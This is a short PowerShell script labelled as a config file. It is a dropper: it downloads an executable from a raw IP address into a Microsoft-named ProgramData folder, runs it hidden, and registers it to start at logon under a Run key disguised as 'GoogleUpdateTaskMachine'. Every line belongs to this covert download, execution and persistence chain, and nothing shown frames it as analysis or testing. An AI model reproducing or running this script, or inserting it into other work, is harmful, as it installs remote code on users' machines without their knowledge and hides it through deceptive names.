# config 3024 v3
Start-BitsTransfer -Source http://198.51.100.23/svc.exe -Destination C:\ProgramData\Microsoft\upd.exe
Start-Process -WindowStyle Hidden C:\ProgramData\Microsoft\upd.exe
New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'GoogleUpdateTaskMachine' -Value 'C:\ProgramData\Microsoft\upd.exe' -PropertyType String -Force
